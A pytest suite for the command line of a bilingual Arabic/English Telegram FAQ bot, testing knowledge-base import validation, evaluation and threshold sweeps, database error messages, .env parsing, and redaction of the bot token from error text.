"""The command line, run in-process on real database files."""

import json
import os
import sqlite3
from contextlib import closing
from pathlib import Path

import pytest
from click.testing import CliRunner

from bot.answering import Answerer, Asker
from bot.cli import cli
from bot.kb.store import connect

CSV_OK = "intent,text\ncard_arrival,where is my card\ncard_arrival,my card has not arrived\n" \
         "exchange_rate,what exchange rate do you use\nسعر_الصرف,ما هو سعر الصرف\n"


@pytest.fixture
def run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.chdir(tmp_path)
    for name in ("TELEGRAM_BOT_TOKEN", "FAQBOT_DB", "TELEGRAM_API_BASE_URL"):
        monkeypatch.delenv(name, raising=False)

    def invoke(*args: str):
        return CliRunner().invoke(cli, list(args), catch_exceptions=False)

    return invoke


def test_ask_builds_the_embedded_knowledge_on_first_use(run, tmp_path: Path) -> None:
    result = run("ask", "كم جيجاواط تخطط شركات التعدين للذكاء الاصطناعي؟")
    assert result.exit_code == 0
    assert "30 غيغا واط" in result.stdout
    assert result.stderr == (
        "faqbot.db does not exist yet: building it from the embedded knowledge.\n")
    assert (tmp_path / "faqbot.db").exists()


def test_ask_in_english_with_arabic_indic_digits(run) -> None:
    result = run("ask", "--lang", "ar", "--digits", "arab", "how much did hive earn")
    assert "٩٣٫١ مليون دولار أمريكي" in result.output


@pytest.mark.parametrize("locale", ["xx", "klingon", "ar--EG", "en-", "123", ""])
def test_a_locale_babel_cannot_read_is_refused(run, fresh_db_path: Path, locale: str) -> None:
    """It was replaced by the reply language without a word."""
    result = run("ask", "--db", str(fresh_db_path), "--locale", locale, "how much did hive earn")
    assert result.exit_code == 2
    assert result.output.splitlines()[-1] == (
        f"Error: Invalid value for '--locale': {locale!r} is not a locale: give a language, "
        "with a region if you like, as in ar, ar-EG or en-GB.")


@pytest.mark.parametrize("locale", ["fr", "de-DE", "root"])
def test_a_locale_of_another_language_is_refused(run, fresh_db_path: Path, locale: str) -> None:
    """It was taken, and changed nothing: replies are in Arabic or English."""
    result = run("ask", "--db", str(fresh_db_path), "--locale", locale, "how much did hive earn")
    assert result.exit_code == 2
    assert result.output.splitlines()[-1] == (
        f"Error: Invalid value for '--locale': {locale!r} is not a locale of Arabic or "
        "English, the languages of the replies: give one, as in ar, ar-EG or en-GB.")


def test_a_locale_with_a_region_writes_its_digits(run, fresh_db_path: Path) -> None:
    result = run("ask", "--db", str(fresh_db_path), "--lang", "ar", "--locale", "ar-EG",
                 "how much did hive earn")
    assert "٩٣٫١ مليون دولار أمريكي" in result.output


def test_a_dotenv_file_is_read_when_the_database_is_named(run, tmp_path: Path,
                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    """`.env` holds settings besides the database's (the encoders', their threads'): they
    reach the environment of every command, also one given --db."""
    monkeypatch.delenv("FAQBOT_ENCODER", raising=False)
    (tmp_path / ".env").write_text("FAQBOT_ENCODER=off\n")
    try:
        result = run("eval", "missing.csv", "--db", "other.db")
        assert result.exit_code == 1
        assert os.environ.get("FAQBOT_ENCODER") == "off"
    finally:
        os.environ.pop("FAQBOT_ENCODER", None)


def test_a_dotenv_file_that_is_not_utf8_is_named(run, tmp_path: Path) -> None:
    (tmp_path / ".env").write_bytes("FAQBOT_DB=kb.db\n".encode("utf-16"))
    result = run("eval", "questions.csv")
    assert result.exit_code == 1
    assert result.output == ("Error: .env in this folder is not UTF-8 text: save it as "
                             "UTF-8, one NAME=value a line.\n")


@pytest.mark.parametrize("where", ["file.db/kb.db", "/proc/faqbot/kb.db"])
def test_a_database_that_cannot_be_made_is_named(run, tmp_path: Path, where: str) -> None:
    (tmp_path / "file.db").write_text("not a folder")
    result = run("ask", "hi", "--db", where)
    assert result.exit_code == 1
    assert result.output.startswith(f"Error: the database {where} could not be opened: ")
    assert result.output.endswith("Point --db or FAQBOT_DB at a file in a folder you can "
                                  "write to.\n")


def test_eval_of_a_file_that_is_not_there_says_so(run) -> None:
    result = run("eval", "questions.csv", "--db", "other.db")
    assert result.exit_code == 1
    assert result.output == "Error: questions.csv: no such file\n"


def test_run_without_a_token_explains(run) -> None:
    result = run("run")
    assert result.exit_code == 1
    assert "TELEGRAM_BOT_TOKEN is not set: create a bot with @BotFather" in result.output
    assert "Traceback" not in result.output


@pytest.mark.parametrize("port", ["-1", "0", "70000"])
def test_a_webhook_port_out_of_range_is_refused(run, port: str) -> None:
    result = run("run", "--webhook-url", "https://example.org/hook", "--port", port)
    assert result.exit_code == 2
    assert result.output.splitlines()[-1] == (
        f"Error: Invalid value for '--port': {port} is not in the range 1<=x<=65535.")


def test_build_reports_broken_sources(run, tmp_path: Path) -> None:
    sources = tmp_path / "src"
    sources.mkdir()
    (sources / "faq.yaml").write_text("entries:\n  - id: Bad Id\n", encoding="utf-8")
    result = run("kb", "build", "--sources", str(sources), "--db", "kb.db")
    assert result.exit_code == 1
    assert "faq.yaml:2: entries[0].id: 'Bad Id' must be lowercase" in result.output
    assert "facts.yaml:0: file: is missing" in result.output


def test_import_and_eval(run, tmp_path: Path) -> None:
    (tmp_path / "train.csv").write_text(CSV_OK, encoding="utf-8")
    result = run("kb", "import", "train.csv", "--db", "kb.db")
    assert result.output == "3 new entries, 7 new phrasings (3 of them intents' names)\n"
    (tmp_path / "test.csv").write_text(
        "intent,text\ncard_arrival,where's my card??\n,what is the weather in rome\n",
        encoding="utf-8")
    result = run("eval", "test.csv", "--db", "kb.db", "--json")
    report = json.loads(result.output)
    assert {"accuracy", "per_lang", "oos_rejected", "latency_ms", "n"} <= set(report)
    assert report["n"] == 2
    assert set(report["latency_ms"]) >= {"p50", "p99"}


ENGLISH_TRAIN = """text,category
where is my card,card_arrival
my card has not arrived yet,card_arrival
how long does card delivery take,card_arrival
what exchange rate do you use,exchange_rate
euro to dollar rate,exchange_rate
how is the exchange rate calculated,exchange_rate
i lost my card,lost_card
my card was stolen,lost_card
block my lost card,lost_card
"""
ARABIC_TRAIN = """label,text
وصول البطاقة,اين بطاقتي
وصول البطاقة,لم تصل بطاقتي بعد
وصول البطاقة,كم يستغرق توصيل البطاقة
سعر الصرف,ما هو سعر الصرف
سعر الصرف,سعر صرف اليورو مقابل الدولار
سعر الصرف,كيف تحسبون سعر الصرف
البطاقة المفقودة,فقدت بطاقتي
البطاقة المفقودة,سرقت بطاقتي
البطاقة المفقودة,اوقفوا بطاقتي المفقودة
"""


def test_eval_takes_labels_as_test_files_write_them(run, tmp_path: Path) -> None:
    """BANKING77 and ArBanking77 come one file per language: an Arabic question labelled
    with the English intent is answered right by the Arabic entry the bot links to it, and
    a label typed otherwise than the entry's id ("Card Arrival", "البطاقه المفقوده") names
    it. Both were counted wrong, the second as naming no entry."""
    (tmp_path / "en.csv").write_text(ENGLISH_TRAIN, encoding="utf-8")
    (tmp_path / "ar.csv").write_text(ARABIC_TRAIN, encoding="utf-8")
    run("kb", "import", "en.csv", "--db", "kb.db")
    run("kb", "import", "ar.csv", "--db", "kb.db")
    (tmp_path / "test.csv").write_text(
        "label,text\ncard_arrival,بطاقتي لم تصل بعد\nexchange_rate,ما هو سعر صرف الدولار\n"
        "Card Arrival,where is my new card\nالبطاقه المفقوده,فقدت بطاقتي\n", encoding="utf-8")
    report = json.loads(run("eval", "test.csv", "--db", "kb.db", "--json").output)
    assert (report["accuracy"], report["top1"], report["unknown_intents"]["n"]) == (1.0, 1.0, 0)
    assert report["answered_by_twin"] == 2
    assert report["labels_by_name"] == {"n": 2, "labels": [
        ["Card Arrival", "card_arrival"], ["البطاقه المفقوده", "البطاقة المفقودة"]]}
    shown = run("eval", "test.csv", "--db", "kb.db").output.splitlines()
    assert ("2 labels name an entry by its id written otherwise: 'Card Arrival' is "
            "card_arrival, 'البطاقه المفقوده' is البطاقة المفقودة") in shown
    assert ("2 right answers are the labelled entry's twin in the other language (the same "
            "question, answered in the asker's language)") in shown
    rows = json.loads(run("eval", "test.csv", "--db", "kb.db", "--sweep", "--json").output)
    assert {row["unknown_intents"] for row in rows} == {0}
    assert max(row["accuracy"] for row in rows) == 1.0


def test_an_import_on_a_terminal_shows_the_encoding(run, tmp_path: Path, monkeypatch) -> None:
    """Encoding new phrasings is most of an import's time: a terminal sees a bar for it."""
    import io
    import sys

    from bot.cli import refresh_index
    from bot.matching.encoder import second_encoder, shared_encoder, terms_encoder

    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    (tmp_path / "train.csv").write_text(CSV_OK, encoding="utf-8")
    run("kb", "import", "train.csv", "--db", "kb.db")  # not a terminal: no bar
    db = connect(tmp_path / "kb.db")
    db.execute("DELETE FROM phrasing_vectors")
    db.execute("DELETE FROM matcher_index")
    db.conn.commit()
    monkeypatch.setattr(sys, "stderr", Terminal())
    refresh_index(db)
    shown = sys.stderr.getvalue()
    assert shown.startswith("updating the matcher index...\n")
    # A small base learns with every encoder, the latent terms too.
    for encoder in (shared_encoder(), second_encoder(), terms_encoder()):
        assert f"encoding phrasings ({encoder.name.split()[0]})  [" in shown
    assert shown.count("7/7") == 3


def test_eval_shows_the_encoding_of_an_index_it_must_learn(run, tmp_path: Path,
                                                           shown_progress) -> None:
    """`eval` (or the bot) meeting phrasings never encoded, after an import stopped while
    encoding, hands its progress bar to the answerer's index build."""
    from bot.answering import Answerer

    (tmp_path / "train.csv").write_text(CSV_OK, encoding="utf-8")
    run("kb", "import", "train.csv", "--db", "kb.db")
    db = connect(tmp_path / "kb.db")
    db.execute("DELETE FROM phrasing_vectors WHERE rowid % 2 = 0")
    db.execute("DELETE FROM matcher_index")
    db.conn.commit()
    answerer = Answerer(db, progress=shown_progress)
    done = [count for count in shown_progress.shown if isinstance(count, int)]
    assert sum(done) == 10  # of 21 vectors, seven phrasings by three encoders
    assert answerer.answer("where is my card").entry_id == "card_arrival"


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "train.csv: the file is empty"),
        (b"intent,question_text\nx,y\n", "train.csv:1: missing column text"),
        (b"label\nx\n", "train.csv:1: missing column text"),
        ("intent,text\ncard,caf\xe9\n".encode("latin-1"),
         "train.csv:2: not UTF-8 text (byte 0xe9); save the file as UTF-8\n"),
        (b"intent,text\n", "train.csv: the file has a header but no rows"),
        (b"intent,text\ncard,where\ncard,where\n",
         "train.csv:3: duplicate row, the same intent and text as line 2"),
        (b"intent,text\ncard,where\ncard,\n", "train.csv:3: the text is empty"),
        (b"intent,text\ncard,where\ncard," + b"x" * (2 << 20) + b"\n",
         "train.csv:3: a cell is over 1,048,576 characters long; a phrasing may have at most "
         "4,096 and an answer 32,768"),
        ("intent,text\ncard,where\n".encode("utf-16-le"),
         "train.csv:1: not UTF-8 text (it looks like UTF-16); save the file as UTF-8"),
        ("intent,text\ncard,where\n".encode("utf-16"),
         "train.csv:1: not UTF-8 text (it looks like UTF-16); save the file as UTF-8"),
        (b"intent,text\ncard," + b"y" * 5000 + b"\n",
         "train.csv:2: the text is 5,000 characters long"),
    ],
)
def test_bad_imports_change_nothing(run, tmp_path: Path, content: bytes, message: str) -> None:
    (tmp_path / "ok.csv").write_text(CSV_OK, encoding="utf-8")
    run("kb", "import", "ok.csv", "--db", "kb.db")
    (tmp_path / "train.csv").write_bytes(content)
    result = run("kb", "import", "train.csv", "--db", "kb.db")
    assert result.exit_code == 1
    assert message in result.output
    assert "Nothing was imported." in result.output
    again = run("kb", "import", "ok.csv", "--db", "kb.db")
    assert again.output == "0 new entries, 0 new phrasings\n"


@pytest.mark.parametrize(
    ("content", "message"),
    [("entries: []\n", "train.yaml: no entries to import"),
     ("", "train.yaml: the file is empty"), ("\n  \n", "train.yaml: the file is empty"),
     ("entries:\n  - id: card\n    source: the card terms\n"
      "    ar:\n      question: أين بطاقتي\n      answer: في الطريق.\n"
      "      phrasings:\n        - متى تصل بطاقتي\n"
      "    en:\n      question: where is my card\n      answer: On its way.\n"
      "      phrasings:\n        - " + "y" * 5000 + "\n",
      "train.yaml: entry card (en): the text is 5,000 characters long; a phrasing may have "
      "at most 4,096")],
)
def test_bad_yaml_imports_are_refused_as_csv_ones_are(run, tmp_path: Path, content: str,
                                                     message: str) -> None:
    (tmp_path / "train.yaml").write_text(content, encoding="utf-8")
    result = run("kb", "import", "train.yaml", "--db", "kb.db")
    assert result.exit_code == 1
    assert message in result.output and "Nothing was imported." in result.output


def test_qna_maker_tsv(run, tmp_path: Path) -> None:
    (tmp_path / "qna.tsv").write_text(
        "Question\tAnswer\tSource\tMetadata\n"
        "How do I reset my password?\tUse the reset link.\tfaq\t\n"
        "forgot password\tUse the reset link.\tfaq\t\n"
        "What are your hours?\tNine to five.\tfaq\t\n", encoding="utf-8")
    result = run("kb", "import", "qna.tsv", "--db", "kb.db")
    assert result.output == "2 new entries, 3 new phrasings\n"
    (tmp_path / "bad.tsv").write_text("Question\tAnswer\nwhy?\t\n", encoding="utf-8")
    refused = run("kb", "import", "bad.tsv", "--db", "kb.db")
    assert "bad.tsv:2: the answer is empty" in refused.output
    result = run("ask", "--db", "kb.db", "i forgot my password")
    assert result.output.strip() == "Use the reset link."


def test_thresholds_are_stored_and_checked(run) -> None:
    # the embedded knowledge ships its own (knowledge/matching.yaml)
    shown = run("kb", "thresholds", "--db", "kb.db")
    assert shown.stdout == "answer 0.640, suggest 0.620, margin 0.050\n"
    assert shown.stderr == "kb.db does not exist yet: building it from the embedded knowledge.\n"
    assert run("kb", "thresholds", "--db", "kb.db", "--answer", "0.7").output == (
        "answer 0.700, suggest 0.620, margin 0.050\n")
    refused = run("kb", "thresholds", "--db", "kb.db", "--suggest", "0.9")
    assert refused.exit_code == 1
    assert refused.output == (
        "Error: thresholds must satisfy 0 <= suggest <= answer <= 1 and 0 <= margin < 1, "
        "and these would be answer 0.7, suggest 0.9, margin 0.05: raise --answer too, to at "
        "least 0.9 (it stays 0.7 otherwise).\n")
    refused = run("kb", "thresholds", "--db", "kb.db", "--margin", "1")
    assert refused.exit_code == 2 and "0<=x<1" in refused.output
    # Back to those the curated knowledge ships, not the built-in defaults (0.3 / 0.29 /
    # 0.02), which answered questions on other topics.
    assert run("kb", "thresholds", "--db", "kb.db", "--reset").output == (
        "answer 0.640, suggest 0.620, margin 0.050\n")


def test_thresholds_of_imported_knowledge_reset_to_the_defaults(run, tmp_path: Path) -> None:
    (tmp_path / "train.csv").write_text(CSV_OK, encoding="utf-8")
    run("kb", "import", "train.csv", "--db", "imported.db")
    assert run("kb", "thresholds", "--db", "imported.db", "--answer", "0.5").output == (
        "answer 0.500, suggest 0.290, margin 0.020\n")
    assert run("kb", "thresholds", "--db", "imported.db", "--reset").output == (
        "answer 0.300, suggest 0.290, margin 0.020\n")


def test_variants_that_normalize_alike_merge_quietly(run, tmp_path: Path) -> None:
    (tmp_path / "train.csv").write_text(
        "intent,text\nfaq-1,Where is my card?\nfaq-1,where is my card\nfaq-1,وين بطاقتي؟\n"
        "faq-1,وَين بطاقتي\n", encoding="utf-8")  # a code for a name: no phrasing of it
    result = run("kb", "import", "train.csv", "--db", "kb.db")
    assert result.output == "1 new entry, 2 new phrasings\n"


def test_an_intents_name_that_reads_as_words_is_a_phrasing_too(run, tmp_path: Path) -> None:
    """"card_arrival" says in two words what its rows ask; "faq-17" says nothing; a name
    that is one of its rows already is not added twice; a QnA file names entries after
    their answers, not by intents."""
    (tmp_path / "train.csv").write_text(
        "intent,text\ncard_arrival,where is my card\nوصول_البطاقة,أين بطاقتي\n"
        "faq-17,how do I reset my pin\nlost card,Lost card!\n", encoding="utf-8")
    result = run("kb", "import", "train.csv", "--db", "kb.db")
    assert result.output == "4 new entries, 6 new phrasings (2 of them intents' names)\n"
    db = connect(tmp_path / "kb.db")
    names = {(row["entry_id"], row["lang"], row["text"]) for row in db["phrasings"].rows}
    assert {("card_arrival", "en", "card arrival"),
            ("وصول_البطاقة", "ar", "وصول البطاقة")} <= names
    assert [text for entry, _, text in names if entry == "faq-17"] == ["how do I reset my pin"]
    assert [text for entry, _, text in names if entry == "lost card"] == ["Lost card!"]
    assert db.execute("SELECT title FROM answers WHERE entry_id = 'card_arrival'"
                      ).fetchall() == [("where is my card",)]
    again = run("kb", "import", "train.csv", "--db", "kb.db")
    assert again.output == "0 new entries, 0 new phrasings\n"
    (tmp_path / "qna.tsv").write_text("Question\tAnswer\nwhy\tBecause.\n", encoding="utf-8")
    assert run("kb", "import", "qna.tsv", "--db", "kb2.db").output == (
        "1 new entry, 1 new phrasing\n")


def test_an_intents_name_is_no_phrasing_where_a_file_has_many_rows_an_intent(
        run, tmp_path: Path) -> None:
    from bot.kb.imports import NAMES_BELOW

    rows = "".join(f"card_arrival,where is card number {i}\n" for i in range(NAMES_BELOW))
    (tmp_path / "train.csv").write_text("intent,text\n" + rows, encoding="utf-8")
    assert run("kb", "import", "train.csv", "--db", "kb.db").output == (
        f"1 new entry, {NAMES_BELOW} new phrasings\n")


def test_rows_differing_only_in_spacing_are_variants(run, tmp_path: Path) -> None:
    (tmp_path / "train.csv").write_text(
        "intent,text\ncard,where is  my card\ncard,where is my card \n", encoding="utf-8")
    assert run("kb", "import", "train.csv", "--db", "kb.db").exit_code == 0


def test_import_into_a_new_database_brings_only_the_file(run, tmp_path: Path) -> None:
    (tmp_path / "train.csv").write_text(CSV_OK, encoding="utf-8")
    run("kb", "import", "train.csv", "--db", "fresh.db")
    (tmp_path / "test.csv").write_text("intent,text\n,hello there\n", encoding="utf-8")
    report = json.loads(run("eval", "test.csv", "--db", "fresh.db", "--json").output)
    assert report["oos_rejected"] == 1.0
    result = run("ask", "--db", "fresh.db", "how many gigawatts are planned for ai")
    assert "gigawatts" not in result.output.split("\n")[0]


def test_a_file_that_is_not_a_database_gets_a_sentence(tmp_path: Path) -> None:
    import subprocess
    import sys

    (tmp_path / "notes.db").write_text("not a database " * 100)
    result = subprocess.run([sys.executable, "-m", "bot", "ask", "--db", "notes.db", "hi"],
                            cwd=tmp_path, capture_output=True, text=True)
    assert result.returncode == 1
    assert "the database could not be used" in result.stderr
    assert "Traceback" not in result.stderr


def _sqlite_file(path: Path, *statements: str) -> bytes:
    """A SQLite file made by another program with `statements`; its bytes."""
    with closing(sqlite3.connect(path)) as other:
        for statement in statements:
            other.execute(statement)
        other.commit()
    return path.read_bytes()


@pytest.mark.parametrize(("statements", "tables"), [
    (["CREATE TABLE users (name TEXT, email TEXT)", "INSERT INTO users VALUES ('a', 'b')"],
     "table users"),
    (["PRAGMA journal_mode = WAL", "CREATE TABLE notes (body TEXT)",
      "CREATE TABLE tags (name TEXT)"],
     "tables notes and tags"),
    (["CREATE TABLE notes (body TEXT)", "CREATE TABLE tags (name TEXT)",
      "CREATE TABLE links (url TEXT)", "CREATE TABLE seen (at TEXT)"],
     "tables links, notes, seen and 1 more"),
    (["CREATE TABLE _sqlite_migrations (migration_set TEXT, name TEXT, applied_at TEXT)",
      "INSERT INTO _sqlite_migrations VALUES ('notes', 'm001', '2026-01-01')"],
     "table _sqlite_migrations"),
], ids=["a table faqbot has", "in WAL mode", "many tables", "other migrations"])
def test_a_database_of_another_program_is_refused_unchanged(
        run, tmp_path: Path, statements: list[str], tables: str) -> None:
    before = _sqlite_file(tmp_path / "other.db", *statements)
    result = run("kb", "thresholds", "--db", "other.db")
    assert result.exit_code == 1
    assert result.output == (
        f"Error: other.db is not a faqbot database (it has the {tables}) and was left "
        "as it was: point --db or FAQBOT_DB at a faqbot database or at a new file.\n")
    assert (tmp_path / "other.db").read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["other.db"]


@pytest.mark.parametrize("statements", [[], ["PRAGMA user_version = 0", "VACUUM"]],
                         ids=["no bytes", "no tables"])
def test_an_empty_file_becomes_a_faqbot_database(run, tmp_path: Path,
                                                 statements: list[str]) -> None:
    (tmp_path / "empty.db").touch()
    _sqlite_file(tmp_path / "empty.db", *statements)
    result = run("kb", "thresholds", "--db", "empty.db")
    assert result.output == "answer 0.640, suggest 0.620, margin 0.050\n"


def test_the_console_answers_after_a_line_that_is_not_utf8(fresh_db_path: Path) -> None:
    import subprocess
    import sys

    result = subprocess.run(
        [sys.executable, "-m", "bot", "console", "--db", str(fresh_db_path)],
        input=b"\xff\xfe hello\nhow much did hive earn\n/quit\n", capture_output=True,
        cwd=fresh_db_path.parent, timeout=300)
    assert result.returncode == 0
    assert "93.1 million US dollars" in result.stdout.decode()
    assert b"Traceback" not in result.stderr


def test_sweep_reports_what_eval_gives_at_each_threshold(run, tmp_path: Path) -> None:
    (tmp_path / "train.csv").write_text(CSV_OK, encoding="utf-8")
    run("kb", "import", "train.csv", "--db", "kb.db")
    (tmp_path / "test.csv").write_text(
        "intent,text\ncard_arrival,where's my card??\ncard_arrival,card not arrived\n"
        "exchange_rate,which rate do you use\nسعر_الصرف,كم سعر الصرف\n"
        ",what is the weather in rome\noos,ما هي عاصمة فرنسا\n", encoding="utf-8")
    rows = json.loads(run("eval", "test.csv", "--db", "kb.db", "--sweep", "--json").output)
    assert [row["answer"] for row in rows][:3] == [0.2, 0.225, 0.25]
    for row in rows[::6]:
        run("kb", "thresholds", "--db", "kb.db", "--answer", str(row["answer"]),
            "--suggest", str(row["suggest"]))
        report = json.loads(run("eval", "test.csv", "--db", "kb.db", "--json").output)
        assert (report["accuracy"], report["oos_rejected"], report["fallback_rate"]) == (
            row["accuracy"], row["oos_rejected"], row["fallback_rate"])
    run("kb", "thresholds", "--db", "kb.db", "--answer", "0.41", "--suggest", "0.4")
    table = run("eval", "test.csv", "--db", "kb.db", "--sweep").output.splitlines()
    assert table[0].split() == ["answer", "suggest", "accuracy", "wrong", "did-you-mean",
                                "fallback", "out", "of", "scope", "declined"]
    assert [line.split()[0] for line in table if line.endswith("<- now")] == ["0.410"]


def test_a_bot_api_error_is_told_without_the_token() -> None:
    """python-telegram-bot appends the token to the base URL, and its errors may quote what
    it made of it: here a port, from a base URL without a path."""
    from telegram.error import NetworkError

    from bot.cli import unusable_api

    error = NetworkError("Unknown error in HTTP implementation: "
                         "InvalidURL(\"Invalid port: '9123:SECRETSECRET'\")")
    refused = unusable_api("http://127.0.0.1:9", error, "123:SECRETSECRET")
    assert refused.format_message() == (
        "the Bot API at http://127.0.0.1:9 could not be used (Unknown error in HTTP "
        "implementation: InvalidURL(\"Invalid port: '9<token>'\")): check the network, and "
        "TELEGRAM_API_BASE_URL if you set it.")


def test_a_refused_import_makes_no_database(run, tmp_path: Path) -> None:
    (tmp_path / "bad.csv").write_text("text\nwhere is my card\n", encoding="utf-8")
    result = run("kb", "import", "bad.csv", "--db", "new/sub/kb.db")
    assert result.exit_code == 1
    assert not (tmp_path / "new").exists()


def test_a_refused_import_leaves_an_older_database_as_it_was(run, tmp_path: Path) -> None:
    """Opening a database of an older version brings it up to date (its phrasings
    normalized again): a file that is refused must not do even that."""
    import gc

    (tmp_path / "ok.csv").write_text(CSV_OK, encoding="utf-8")
    run("kb", "import", "ok.csv", "--db", "kb.db")
    gc.collect()  # closes the command's connection: the WAL is written back
    _sqlite_file(tmp_path / "kb.db", "UPDATE meta SET value = '0' WHERE key = 'normalize_version'")
    (tmp_path / "bad.csv").write_text("text\nwhere is my card\n", encoding="utf-8")
    before = {p.name: p.read_bytes() for p in tmp_path.iterdir()}
    result = run("kb", "import", "bad.csv", "--db", "kb.db")
    assert result.exit_code == 1
    gc.collect()
    assert {p.name: p.read_bytes() for p in tmp_path.iterdir()} == before
    assert sorted(before) == ["bad.csv", "kb.db", "ok.csv"]


@pytest.mark.parametrize("change", [["--answer", "0.5"], ["--reset"]])
def test_thresholds_are_not_set_on_a_database_that_does_not_exist(
        run, tmp_path: Path, change: list[str]) -> None:
    """A mistyped --db was built from the embedded knowledge, to be given thresholds that
    no command would read."""
    result = run("kb", "thresholds", "--db", "typo.db", *change)
    assert result.exit_code == 1
    assert result.output == (
        "Error: typo.db does not exist: there is no knowledge base to set thresholds on. "
        "Point --db or FAQBOT_DB at one, or make it with faqbot kb build or kb import.\n")
    assert list(tmp_path.iterdir()) == []


def test_a_database_named_by_the_environment_is_said_to_be_new(
        run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("FAQBOT_DB", "typo.db")
    result = run("kb", "thresholds")
    assert result.stderr == (
        "typo.db does not exist yet: building it from the embedded knowledge.\n")
    assert result.stdout == "answer 0.640, suggest 0.620, margin 0.050\n"
    assert run("kb", "thresholds").output == "answer 0.640, suggest 0.620, margin 0.050\n"


def test_a_database_named_by_the_environment_that_is_a_folder_is_told(
        run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """--db refuses a folder itself; FAQBOT_DB was told as "unable to open database file"."""
    (tmp_path / "kb").mkdir()
    monkeypatch.setenv("FAQBOT_DB", "kb")
    result = run("kb", "thresholds")
    assert result.exit_code == 1
    assert result.output == (
        "Error: kb is a folder, not a database file: point --db or FAQBOT_DB at a file.\n")


@pytest.mark.parametrize("where", ["some.file/kb.db", "some.file/sub/kb.db"])
def test_a_file_in_the_path_of_a_database_is_named(run, tmp_path: Path, where: str) -> None:
    """It was told as "File exists" or "Not a directory"."""
    (tmp_path / "some.file").write_text("notes")
    result = run("kb", "thresholds", "--db", where)
    assert result.exit_code == 1
    assert result.output == (
        f"Error: the database {where} could not be opened: some.file is a file, not a folder. "
        "Point --db or FAQBOT_DB at a file in a folder you can write to.\n")


def test_a_database_another_process_is_writing_is_said_to_be_busy(run, tmp_path: Path) -> None:
    (tmp_path / "ok.csv").write_text(CSV_OK, encoding="utf-8")
    run("kb", "import", "ok.csv", "--db", "kb.db")
    with closing(sqlite3.connect(tmp_path / "kb.db")) as other:
        other.execute("BEGIN IMMEDIATE")  # holds the write lock, as an import would
        result = run("kb", "thresholds", "--db", "kb.db", "--margin", "0.1")
    assert result.exit_code == 1
    assert result.output == (
        "Error: the database kb.db is busy: another process is writing to it. Try again when "
        "the other command has finished.\n")


def _unprivileged(*args: str) -> list[str]:
    """`faqbot args` run without the privilege of ignoring file permissions, which root has
    (and would write to any file or folder)."""
    import shutil
    import sys

    command = [sys.executable, "-m", "bot", *args]
    if os.geteuid() != 0:
        return command
    if not shutil.which("setpriv"):
        pytest.skip("root without setpriv ignores file permissions")
    return ["setpriv", "--bounding-set=-dac_override,-dac_read_search,-fowner",
            "--inh-caps=-all", *command]


def test_a_database_in_a_folder_that_is_not_writable_is_told(run, tmp_path: Path) -> None:
    """SQLite makes kb.db-wal and kb.db-shm beside the database, even to read it."""
    import gc
    import subprocess

    (tmp_path / "ok.csv").write_text(CSV_OK, encoding="utf-8")
    run("kb", "import", "ok.csv", "--db", "locked/kb.db")
    gc.collect()  # closes the command's connection: its kb.db-wal and kb.db-shm are removed
    assert sorted(p.name for p in (tmp_path / "locked").iterdir()) == ["kb.db"]
    (tmp_path / "locked").chmod(0o555)
    try:
        result = subprocess.run(_unprivileged("ask", "--db", "locked/kb.db", "where is my card"),
                                cwd=tmp_path, capture_output=True, text=True)
    finally:
        (tmp_path / "locked").chmod(0o755)
    assert result.returncode == 1
    assert result.stderr == (
        f"Error: the database locked/kb.db could not be used: its folder {tmp_path}/locked is "
        "not writable, and SQLite makes files beside the database (kb.db-wal, kb.db-shm). Make "
        "the folder writable, or point --db or FAQBOT_DB at a file in another folder.\n")


def test_a_read_only_database_is_told_to_a_command_that_writes(run, tmp_path: Path) -> None:
    import subprocess

    (tmp_path / "ok.csv").write_text(CSV_OK, encoding="utf-8")
    run("kb", "import", "ok.csv", "--db", "kb.db")
    (tmp_path / "kb.db").chmod(0o444)
    result = subprocess.run(_unprivileged("kb", "thresholds", "--db", "kb.db", "--margin", "0.1"),
                            cwd=tmp_path, capture_output=True, text=True)
    assert result.returncode == 1
    assert result.stderr == (
        "Error: the database kb.db is read-only, and this command writes to it: make the file "
        "writable, or point --db or FAQBOT_DB at another file.\n")


@pytest.mark.parametrize(("lines", "line"), [
    ("# where the knowledge is\nFAQBOT_ENCODER=on\nFAQBOT_DB=\"elsewhere.db\n", 3),
    ("TELEGRAM_BOT_TOKEN='123:SECRETSECRET\nFAQBOT_DB=elsewhere.db\n", 1),
    ("FAQBOT_DB=elsewhere.db\nthe knowledge base\n", 2),
])
def test_a_dotenv_line_that_cannot_be_read_is_named(run, tmp_path: Path, lines: str,
                                                    line: int) -> None:
    """python-dotenv warned and skipped it: the setting was ignored, and another database
    built and used. The line is not shown: it may hold the token."""
    (tmp_path / ".env").write_text(lines, encoding="utf-8")
    result = run("kb", "thresholds")
    assert result.exit_code == 1
    assert result.output == (
        f"Error: .env:{line}: cannot be read: write NAME=value, and close any quote the value "
        "opens.\n")
    assert sorted(p.name for p in tmp_path.iterdir()) == [".env"]


@pytest.mark.parametrize("question", ["", "   ", "\t\n", "\u200f\u200e \u2066\u2069", "\ufeff"])
def test_an_empty_question_is_a_usage_error(run, fresh_db_path: Path, question: str) -> None:
    """It was answered, on exit status 0, with the bot's "send your question as text"."""
    result = run("ask", "--db", str(fresh_db_path), question)
    assert result.exit_code == 2
    assert result.output.splitlines()[-1] == (
        "Error: Invalid value for 'QUESTION': the question is empty.")


def test_a_question_without_letters_is_answered_as_the_bot_would(run, fresh_db_path) -> None:
    result = run("ask", "--db", str(fresh_db_path), "--lang", "en", "👍")
    assert result.exit_code == 0
    assert result.output == "Please send your question as text, in Arabic or English.\n"


@pytest.mark.parametrize("url", ["http://bot.example.org/hook", "bot.example.org/hook",
                                 "https://", "https:///hook", "https://[::1/hook"])
def test_a_webhook_url_telegram_would_refuse_is_refused_first(run, url: str) -> None:
    """Telegram posts updates only to HTTPS: it was told after the token was checked, in
    the Bot API's words."""
    result = run("run", "--webhook-url", url)
    assert result.exit_code == 2
    assert result.output.splitlines()[-1] == (
        f"Error: Invalid value for '--webhook-url': {url!r} is not an HTTPS URL with a host, "
        "such as https://bot.example.org/faqbot: Telegram posts updates only to HTTPS.")


